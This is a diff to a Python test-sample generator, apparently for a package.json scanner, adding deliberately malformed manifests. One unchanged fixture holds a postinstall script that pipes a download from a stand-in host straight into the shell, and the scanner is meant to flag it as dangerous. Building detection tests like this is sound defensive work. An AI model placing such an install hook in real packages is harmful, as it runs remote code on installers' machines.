@@ -121,6 +121,9 @@ def project_samples():
                  dump({"name": "b", "version": "1.0.0", "scripts": {
                      "postinstall": "curl -s https://example.invalid/x | sh"}}),
                  {"npm-install-script-danger"}, "review")
+    for name in "overrides", "dependencies", "resolutions":  # a list where a map is expected
+        yield Sample("bad", f"npm/list-{name}/package.json",
+                     b'{"name": "x", "version": "1.0.0", "%s": ["a": "1"' % name.encode(), {"malformed"})
     yield Sample("bad", "npm/broken/package.json", b'{"name": "x", "version": "1.0.0", ', {"malformed"})
 
 
